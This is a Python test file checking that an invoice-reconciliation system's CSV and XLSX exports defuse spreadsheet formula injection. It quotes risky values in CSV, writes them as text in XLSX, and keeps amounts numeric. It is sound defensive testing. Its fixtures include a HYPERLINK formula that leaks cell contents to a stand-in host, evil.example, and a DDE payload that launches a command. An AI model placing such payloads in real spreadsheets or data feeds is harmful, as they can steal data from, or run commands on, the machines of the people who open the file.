"""Issue 18, point 1: a supplier name or document number that starts like a formula (``=``, ``+``, ``-``,
``@``, a tab or CR) goes out as text in every CSV and XLSX we write: the reconciliation export, the
XLSX attached to a supplier's email, the auditor's evidence pack. Amounts keep their minus sign."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlmodel import Session
from support.matching import book, insert_documents, portal

from ims_core import audit
from ims_core.audit.evidence import export_audit
from ims_core.matching.run import run_reconciliation
from ims_core.matching.scoring import Tolerances
from ims_core.reports.cells import csv_text, csv_text_column
from ims_core.reports.export import export_reconciliation
from ims_core.reports.export_columns import COLUMNS
from ims_core.suppliers.mailer import documents_xlsx

NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
NUMBERS = ["=1+2", "+91-INV", "-12", "@SUM(A1)", "\t=3", "\r=4"]


@pytest.fixture
def tainted(engine):
    insert_documents(
        engine,
        [book(1, NUMBERS[0], supplier_name=NAME), book(2, NUMBERS[1]), book(3, NUMBERS[2]),
         book(4, "CN-5", doc_type="CRN", taxable=-5_07, cgst=-45, sgst=0)],
        [portal(101 + i, number, supplier_name=NAME) for i, number in enumerate(NUMBERS[3:])],
    )
    run_reconciliation(engine, tolerances=Tolerances())
    return engine


def test_the_csv_rule_is_owasps():
    assert [csv_text(v) for v in ["=1", "+1", "-1", "@x", "\tx", "\rx", "a=1", "", None, -5]] == [
        "'=1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "a=1", "", None, -5]


@given(st.lists(st.one_of(st.none(), st.integers(), st.text(alphabet=st.sampled_from("=+-@\t\r\x00a1 ")))))
def test_a_column_is_the_rule_applied_to_each_field(values):
    assert list(csv_text_column(values)) == [csv_text(value) for value in values]


def test_reconciliation_xlsx_has_no_live_formula(tainted, tmp_path):
    path = tmp_path / "reco.xlsx"
    export_reconciliation(tainted, path)
    sheet = openpyxl.load_workbook(path)["All"]
    at = {column.name: i for i, column in enumerate(COLUMNS)}
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert [c for c in cells if c.data_type == "f"] == []
    names = {row[at["supplier_name"]] for row in sheet.iter_rows(min_row=2, values_only=True)}
    numbers = {row[at[f"{side}_doc_number"]] for side in ("book", "portal")
               for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert NAME in names and set(NUMBERS) - {"\r=4"} <= numbers  # shown as written, as text
    assert "\n=4" in numbers  # (an XML reader hands a bare CR back as LF)


def test_reconciliation_csv_quotes_formulas_but_not_amounts(tainted, tmp_path):
    path = tmp_path / "reco.csv"
    export_reconciliation(tainted, path)
    rows = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
    assert {r["supplier_name"] for r in rows if r["book_document_id"] == "1"} == {"'" + NAME}
    numbers = {r["book_doc_number"] for r in rows} | {r["portal_doc_number"] for r in rows}
    assert {"'=1+2", "'+91-INV", "'-12", "'@SUM(A1)", "'\t=3", "'\r=4"} <= numbers
    credit = next(r for r in rows if r["book_doc_number"] == "CN-5")
    assert credit["book_taxable_value"] == "-5.07" and credit["book_tax"] == "-0.45"


def test_the_suppliers_attachment_has_no_live_formula():
    rows = [{"kind": "invoice", "number": number, "date": dt.date(2025, 10, 10), "value_paise": -500_00,
             "taxable_paise": 100, "tax_paise": 18, "period": "102025", "wrong": "=cmd|' /C calc'!A0",
             "need": "@SUM(1)"} for number in NUMBERS[:3]]
    sheet = openpyxl.load_workbook(io.BytesIO(documents_xlsx("Documents", rows)))["Documents"]
    cells = [cell for row in sheet.iter_rows(min_row=3) for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [c.value for c in sheet["B"][2:]] == NUMBERS[:3]
    assert sheet["H3"].value == "=cmd|' /C calc'!A0" and sheet["D3"].value == -500  # amounts stay numbers


def test_the_evidence_pack_has_no_live_formula(engine, tmp_path):
    mallory = audit.Actor(id="U0EVIL", name="=2+5", source="slack")
    with Session(engine) as session:
        audit.record(session, kind="decision", actor=mallory, document_id=None, before=None,
                     after={"action": "A"}, reason="@SUM(A1)")
        session.commit()
        export_audit(session, tmp_path / "pack.xlsx")
        export_audit(session, tmp_path / "pack.csv")
    sheet = openpyxl.load_workbook(tmp_path / "pack.xlsx")["events"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c for c in cells if c.data_type == "f"] == []
    assert {"=2+5", "@SUM(A1)"} <= {c.value for c in cells}
    rows = list(csv.DictReader((tmp_path / "pack.csv").open(encoding="utf-8")))
    assert (rows[0]["actor"], rows[0]["reason"]) == ("'=2+5", "'@SUM(A1)")


def test_the_evidence_pack_shows_rupees_and_field_names(engine, tmp_path):
    """``before``/``after`` read as words and rupees; the stored JSON is kept beside them."""
    asha = audit.Actor(id="", name="Asha", source="cli")
    before = {"action": "N", "version": 0}
    after = {"action": "A", "version": 1, "itc_reduction": "partial", "requested_by": "",
             "declared": {"igst": 1_20_000_00, "cgst": 0, "sgst": 0, "cess": 5}}
    with Session(engine) as session:
        audit.record(session, kind="decision", actor=asha, document_id=None, before=before, after=after)
        session.commit()
        export_audit(session, tmp_path / "pack.csv")
    row = next(csv.DictReader((tmp_path / "pack.csv").open(encoding="utf-8")))
    assert row["before"] == "Action: no action; Version: 0"
    assert row["after"] == ("Action: accepted; Declared cess: ₹0.05; Declared CGST: ₹0.00; "  # stored order
                            "Declared IGST: ₹1,20,000.00; Declared SGST: ₹0.00; ITC reduction: partial; "
                            "Requested by: ; Version: 1")
    assert '"igst":12000000' in row["after_json"].replace(" ", "")
